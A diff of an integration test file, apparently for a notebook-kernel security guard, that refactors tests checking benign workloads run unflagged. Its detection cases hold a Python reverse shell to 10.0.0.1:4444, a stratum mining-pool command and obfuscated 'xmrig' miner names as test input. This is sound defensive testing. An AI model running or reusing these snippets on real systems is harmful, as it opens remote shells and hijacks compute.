@@ -6,14 +6,21 @@ odd, and cells that name tools in data. Each runs to its end with no incident.""
 
 from __future__ import annotations
 
+import os
+import signal
+import socket
 import subprocess
 import sys
+import weakref
 
 import pytest
 
+from colab_guard.kernel.hook import _own_listener, _remember
+from tests.harness import free_port, wait_until
 from tests.standins.honest_fixtures import (HONEST_SECONDS, guard_config, measured,  # noqa: F401
                                             run_to_the_end, service)
-from tests.test_honest_workloads import course_mirror  # noqa: F401
+from tests.test_cell_evasions import run_cells
+from tests.test_honest_workloads import _listening
 
 pytestmark = pytest.mark.integration
 
@@ -135,12 +142,37 @@ async def test_a_test_suite_starting_a_server_per_test_as_a_script_runs(kernel, 
 # ---------------------------------------------------------------- one's own API, loaded
 
 
+@pytest.fixture
+def nohup():
+    """``await nohup(kernel, guard_config, folder, command)``: the command started from the
+    kernel as notebooks start servers, ``nohup … &`` in ``%%bash`` (the shell exits, the
+    server is orphaned); killed at teardown."""
+    started = []
+
+    async def start(kernel, guard_config, folder, command: str) -> None:
+        pid_file = folder / f"nohup-{len(started)}.pid"
+        started.append(pid_file)
+        await run_to_the_end(kernel, guard_config, f"%%bash\ncd {folder}\n"
+                             f"nohup {command} > nohup.log 2>&1 &\necho $! > {pid_file}\necho done")
+
+    yield start
+    for pid_file in started:
+        try:
+            os.kill(int(pid_file.read_text()), signal.SIGKILL)
+        except (OSError, ValueError):
+            pass  # gone already
+
+
+
+
+
 API = '''
 import asyncio, sys
 async def handle(reader, writer):  # an events endpoint: the answer comes when there is news
     await reader.readline()
     await asyncio.sleep(float(sys.argv[2]))
-    writer.write(b"HTTP/1.0 200 OK\\r\\n\\r\\n{\\"news\\": 1}"); await writer.drain(); writer.close()
+    writer.write(b"HTTP/1.0 200 OK\\r\\n\\r\\n{\\"news\\": 1}")
+    await writer.drain(); writer.close()
 async def main():
     server = await asyncio.start_server(handle, "127.0.0.1", int(sys.argv[1]), backlog=1024)
     async with server: await server.serve_forever()
@@ -164,16 +196,13 @@ print("done", await main(PORT, 500))  # the kernel's own event loop
 
 
 async def test_a_load_test_of_ones_own_api_with_500_slow_clients_runs(kernel, guard_config,
-                                                                     tmp_path):
+                                                                     tmp_path, nohup):
     """500 concurrent clients, each waiting 9 s for its answer, of an API the notebook
-    started with ``nohup … &`` in ``%%bash`` (the shell exits: the API is no descendant of the kernel
-    any more)."""
-    from tests.harness import free_port
+    started with ``nohup … &`` in ``%%bash`` (the shell exits: the API is no descendant of
+    the kernel any more)."""
     port = free_port()
     (tmp_path / "api.py").write_text(API)
-    await run_to_the_end(kernel, guard_config,
-                         f"%%bash\ncd {tmp_path}\nnohup {PYTHON} api.py {port} 9 > api.log 2>&1 &\n"
-                         "echo done")
+    await nohup(kernel, guard_config, tmp_path, f"{PYTHON} api.py {port} 9")
     text = await run_to_the_end(kernel, guard_config, LOAD_TEST.replace("PORT", str(port)))
     assert text.split()[-1] == "500", text
 
@@ -216,16 +245,13 @@ print(min(got))
 
 
 async def test_a_reverse_proxy_in_the_kernel_before_a_nohup_dashboard_runs(
-        kernel, guard_config, tmp_path, jp_asyncio_loop):
+        kernel, guard_config, tmp_path, jp_asyncio_loop, nohup):
     """A dashboard started with ``nohup … &`` (no longer the kernel's descendant), and a
     small reverse proxy in the kernel in front of it, as jupyter-server-proxy is: ten
     users fetch a 64 KiB report through it, past the relay window's count."""
-    from tests.harness import free_port, wait_until
     app = free_port()
     (tmp_path / "report.html").write_text("<p>loss</p>" * 6000)
-    await run_to_the_end(kernel, guard_config,
-                         f"%%bash\ncd {tmp_path}\nnohup {PYTHON} -m http.server {app} "
-                         "--bind 127.0.0.1 > app.log 2>&1 &\necho done")
+    await nohup(kernel, guard_config, tmp_path, f"{PYTHON} -m http.server {app} --bind 127.0.0.1")
     wait_until(lambda: _listening(app), timeout=30, what="the dashboard listening")
     text = await run_to_the_end(kernel, guard_config, REVERSE_PROXY.replace("APP", str(app)))
     proxy = int(text.split()[-1])
@@ -234,12 +260,6 @@ async def test_a_reverse_proxy_in_the_kernel_before_a_nohup_dashboard_runs(
         timeout=120))
     assert int(users.stdout or 0) >= 64 * 1024, users.stdout + users.stderr
     await run_to_the_end(kernel, guard_config, "print('done')")
-
-
-def _listening(port: int) -> bool:
-    import socket
-    with socket.socket() as probe:
-        return probe.connect_ex(("127.0.0.1", port)) == 0
 
 
 # ---------------------------------------------------------------- commands whose options look odd
@@ -259,7 +279,8 @@ async def test_a_health_check_with_nc_that_starts_the_service_when_down_runs(ker
 
 async def test_aria2c_with_a_log_file_and_a_parameterized_ftp_uri_runs(kernel, guard_config,
                                                                        service, tmp_path):
-    """aria2c's ``-l aria.log`` (its log) and ``-P`` (a parameterized URI: mirrors of one file) before an
+    """aria2c's ``-l aria.log`` (its log) and ``-P`` (a parameterized URI: mirrors of one
+    file) before an
     ``ftp://`` URL: read as hydra's login and password list against an FTP server."""
     pub = tmp_path / "ftp" / "pub"
     pub.mkdir(parents=True)
@@ -269,7 +290,8 @@ async def test_aria2c_with_a_log_file_and_a_parameterized_ftp_uri_runs(kernel, g
     text = await run_to_the_end(
         kernel, guard_config,
         f"%cd {tmp_path}\n"
-        f"!aria2c -q -d got -l aria.log --ftp-reuse-connection=false -P 'ftp://127.0.0.1:{port}/pub/{{train,test}}.csv'\n"
+        "!aria2c -q -d got -l aria.log --ftp-reuse-connection=false "
+        f"-P 'ftp://127.0.0.1:{port}/pub/{{train,test}}.csv'\n"
         "!ls got && echo done")
     assert "train.csv" in text or "test.csv" in text, text  # from one mirror or the other
 
@@ -292,7 +314,8 @@ NAMED_CELLS = [
     "        {'tool': 'nmap', 'url': 'https://nmap.org', 'seen': 40}]\n"
     "for row in rows:\n    row['cmd'] = f\"{row['tool']} --help\"\n"
     "with open('tools.csv', 'w', newline='') as f:\n"
-    "    writer = csv.DictWriter(f, fieldnames=list(rows[0])); writer.writeheader(); writer.writerows(rows)\n"
+    "    writer = csv.DictWriter(f, fieldnames=list(rows[0]))\n"
+    "    writer.writeheader(); writer.writerows(rows)\n"
     "print(sorted(rows, key=lambda r: r['seen']))",
     # a C library's stderr captured to a file, a service checked, a script fed to bash
     "import os, socket, subprocess\n"
@@ -300,7 +323,8 @@ NAMED_CELLS = [
     "except OSError:\n    print('the cache service is down')\n"
     "log = open('native.log', 'w'); saved = os.dup(2); os.dup2(log.fileno(), 2)\n"
     "os.write(2, b'warning from C\\n'); os.dup2(saved, 2); log.close()\n"
-    "print(subprocess.run(['bash'], input='ls *.csv | wc -l', capture_output=True, text=True).stdout)",
+    "listed = subprocess.run(['bash'], input='ls *.csv | wc -l', capture_output=True, text=True)\n"
+    "print(listed.stdout)",
     "print('done')",
 ]
 
@@ -321,7 +345,6 @@ async def test_a_load_test_of_ones_own_api_started_in_a_terminal_runs(kernel, gu
                                                                      tmp_path):
     """The same load test, the API started in a JupyterLab terminal (here by the test: no
     kernel's process, as a terminal's is not to a server extension on its own)."""
-    from tests.harness import free_port, wait_until
     port = free_port()
     api = subprocess.Popen([PYTHON, "-c", API, str(port), "9"], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
@@ -338,7 +361,6 @@ async def test_a_load_test_of_ones_own_api_started_in_a_terminal_runs(kernel, gu
 
 
 def _cell_ids(cell: str) -> set[str]:
-    from tests.test_cell_evasions import run_cells
     return {d.signature.id for d in run_cells([cell])}
 
 
@@ -346,7 +368,8 @@ def _cell_ids(cell: str) -> set[str]:
     # a family's folder named in a plain list is no hidden name; a name assembled still is
     (NAMED_CELLS[0], set()),
     ("d = '/tmp/.cache'\nexe = f'{d}/xm' + 'rig'\nprint(exe)", {"cell-hidden-miner-name"}),
-    ("import os\nbase = 'data'\nos.makedirs(os.path.join(base, 'x' + 'mrig'))", {"cell-hidden-miner-name"}),
+    ("import os\nbase = 'data'\nos.makedirs(os.path.join(base, 'x' + 'mrig'))",
+     {"cell-hidden-miner-name"}),
     ("FAMILIES = ['xmrig', 'mirai']\nfor fam in FAMILIES:\n    print(f'samples/{fam}.bin')", set()),
     ("d = '/tmp/.cache'\nexe = f'{d}/xm' + 'rig.exe'", {"cell-hidden-miner-name"}),
     # a URL's scheme is not cut from its host: a pool URL assembled from plain parts is hidden
@@ -354,7 +377,8 @@ def _cell_ids(cell: str) -> set[str]:
      {"cell-pool-url"}),
     # a shell given its script as input= runs that script: pipes, not a socket, are its streams
     (NAMED_CELLS[3], set()),
-    ("import subprocess\nsubprocess.run(['bash'], input='./x -o stratum+tcp://pool.example.net:3333')",
+    ("import subprocess\n"
+     "subprocess.run(['bash'], input='./x -o stratum+tcp://pool.example.net:3333')",
      {"cell-pool-url"}),
     ("import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
      "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])",
@@ -373,10 +397,6 @@ def test_the_hook_leaves_out_only_connects_to_the_kernels_own_listeners():
     """A connect to a loopback port a socket of the kernel listens on is no attempt on anyone
     else's port; one to a port it only bound (a client's source port), to another host, or
     after its server closed is reported as before (a scan of loopback is still seen)."""
-    import socket
-    import weakref
-
-    from colab_guard.kernel.hook import _own_listener, _remember
     listeners = weakref.WeakSet()
     server, client = socket.socket(), socket.socket()
     for sock in (server, client):
@@ -400,7 +420,8 @@ async def test_a_word_game_solver_with_a_wordlist_option_runs(kernel, guard_conf
     (tmp_path / "words.txt").write_text("crane\nslate\nadieu\n")
     (tmp_path / "wordle.py").write_text(
         "import argparse\np = argparse.ArgumentParser()\n"
-        "p.add_argument('-m', type=int); p.add_argument('-a', type=int); p.add_argument('--wordlist')\n"
+        "p.add_argument('-m', type=int); p.add_argument('-a', type=int)\n"
+        "p.add_argument('--wordlist')\n"
         "args = p.parse_args()\nwords = open(args.wordlist).read().split()\n"
         "print('best opener:', sorted(words)[args.a], 'in', args.m, 'guesses')\nprint('done')\n")
     await run_to_the_end(kernel, guard_config,
@@ -415,4 +436,5 @@ async def test_a_word_game_solver_with_a_wordlist_option_runs(kernel, guard_conf
 async def test_a_video_style_transfer_script_called_run_py_runs(kernel, guard_config, tmp_path):
     (tmp_path / "run.py").write_text("import sys\nprint('styled', sys.argv[1:])\nprint('done')\n")
     await run_to_the_end(kernel, guard_config,
-                         f"%cd {tmp_path}\n!{PYTHON} run.py -s starry_night.jpg -t clip.mp4 -o out.mp4")
+                         f"%cd {tmp_path}\n"
+                         f"!{PYTHON} run.py -s starry_night.jpg -t clip.mp4 -o out.mp4")
